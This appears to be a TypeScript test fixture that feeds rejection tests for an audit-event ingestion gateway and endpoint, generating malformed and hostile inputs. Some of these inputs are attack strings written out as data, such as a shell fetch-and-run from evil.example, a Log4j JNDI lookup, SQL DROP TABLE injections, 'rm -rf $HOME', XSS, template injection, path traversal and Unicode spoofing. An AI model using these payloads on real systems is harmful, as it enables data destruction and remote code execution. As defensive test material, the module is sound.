import { ENDPOINT, ENVELOPE, GATEWAY, type Hostile, hostile, MCP } from './message.ts';

/** Sound bytes that are no event: other formats, other messages, and keys made to be read by somebody. */
export function strangers(): readonly Hostile[] {
  return [...otherFormats(), ...bare(), ...otherMessages(), ...names()];
}

function otherFormats(): Hostile[] {
  const formats: readonly (readonly [string, string])[] = [
    ['HTML', '<!doctype html><html><body><h1>502 Bad Gateway</h1></body></html>'],
    ['XML', '<?xml version="1.0"?><event><action>file.read</action></event>'],
    ['an XML entity bomb', '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'],
    ['CSV', 'time,action,outcome\n2026-01-05,file.read,success\n'],
    ['YAML', 'trailhouse: 1\naction: file.read\noutcome: success\n'],
    ['a form', 'trailhouse=1&action=file.read&outcome=success'],
    ['syslog', '<165>1 2026-01-05T10:00:00Z host app 1 ID47 - file.read'],
    ['CEF', 'CEF:0|Vendor|Product|1.0|100|file.read|5|src=10.0.0.1'],
    ['logfmt', 'time=2026-01-05 action=file.read outcome=success'],
    ['a stack trace', 'Traceback (most recent call last):\n  File "x.py", line 1\nKeyError: 1'],
    ['server-sent events', 'event: message\ndata: {"trailhouse":1}\n\n'],
    ['an HTTP request', 'POST /v1/logs HTTP/1.1\r\nHost: x\r\n\r\n{}'],
    ['a shell script', '#!/bin/sh\nrm -rf "$HOME"\n'],
    ['SQL', "INSERT INTO audit.events VALUES ('x'); DROP TABLE audit.events;"],
    ['PHP serialised', 'a:1:{s:6:"action";s:9:"file.read";}'],
    ['a template', '{{ constructor.constructor("return process")() }}'],
  ];
  return formats.map(([name, body]) => hostile(GATEWAY, `format: ${name}`, () => body, /^byte \d+: is not JSON/));
}

function bare(): Hostile[] {
  const values = [
    '42',
    '-0',
    '1.5',
    '"x"',
    '""',
    'null',
    'true',
    'false',
    '{}',
    '[]',
    '[[]]',
    '[null]',
    '[1,2,3]',
    '["a","b"]',
    '[{}]',
    '[{},{}]',
  ];
  return values.flatMap((value) => [
    hostile(GATEWAY, `${value} alone, at a gateway`, () => value, /^message: /),
    hostile(MCP, `${value} alone, at an MCP gateway`, () => value, /^message: /),
    hostile(ENDPOINT, `${value} alone, at an endpoint`, () => value, /^message: /),
  ]);
}

function otherMessages(): Hostile[] {
  const messages: readonly (readonly [string, unknown])[] = [
    ['a health check', { status: 'ok' }],
    ['an error of a gateway', { error: { message: 'Authentication Error', type: 'auth_error', code: '401' } }],
    ['a JSON-RPC request of another version', { jsonrpc: '1.0', id: 1, method: 'tools/call', params: { name: 'x' } }],
    ['a chat completion', { id: 'chatcmpl-1', object: 'chat.completion', created: 1_767_600_000, choices: [] }],
    ['a CloudEvent', { specversion: '1.0', id: '1', source: '/x', type: 'x.y', data: {} }],
    ['a Kubernetes event', { kind: 'Event', apiVersion: 'v1', reason: 'Pulled' }],
    ['a batch of messages in an array', [ENVELOPE, ENVELOPE]],
    ['an envelope in an envelope', { payload: ENVELOPE }],
    ['an envelope under another version', { ...ENVELOPE, trailhouse: 2 }],
    ['OTLP/JSON on a JSON topic', { resourceLogs: [{ scopeLogs: [{ logRecords: [{ timeUnixNano: '1' }] }] }] }],
  ];
  return messages.flatMap(([name, message]) => [
    hostile(ENDPOINT, name, () => JSON.stringify(message), /^\w+: /),
    hostile(GATEWAY, `${name}, at a gateway`, () => JSON.stringify(message), /^\w+: /),
  ]);
}

/** A person reads keys in reasons and on terminals, so they may be aimed at the reader. None may show up in a reason. */
const NAMES: readonly (readonly [string, string])[] = [
  ['an injection of SQL', "'; DROP TABLE audit.events; --"],
  ['an injection of shell', '$(curl evil.example|sh)'],
  ['an injection of HTML', '<img src=x onerror=alert(1)>'],
  ['a lookup of Log4j', '$' + '{jndi:ldap://evil.example/x}'],
  ['a path upwards', '../../../../etc/passwd'],
  ['a right-to-left override', 'user\u202egnp.exe'],
  ['zero-width spaces', 'em\u200bail'],
  ['a byte order mark within', 'em\ufeffail'],
  ['a look-alike letter', 'emаil'],
  ['tag characters', 'email\u{e0041}\u{e0042}'],
  ['a terminal escape', '\u001b]0;owned\u0007'],
  ['a line break', 'a\n2026-01-05 INFO all is well'],
  ['combining marks', `e${'\u0301'.repeat(500)}`],
  ['a spreadsheet formula', '=HYPERLINK("http://evil.example")'],
  ['an empty name', ''],
  ['an email address', 'somebody@private.example'],
];

function names(): Hostile[] {
  return NAMES.flatMap(([name, key]) => [
    hostile(GATEWAY, `nothing but a key that is ${name}`, () => JSON.stringify({ [key]: 1 }), /^message: /),
    hostile(
      ENDPOINT,
      `an actor with a key that is ${name}`,
      () => JSON.stringify({ ...ENVELOPE, actor: { ...ENVELOPE.actor, [key]: 'x' } }),
      /^actor: /,
    ),
  ]);
}
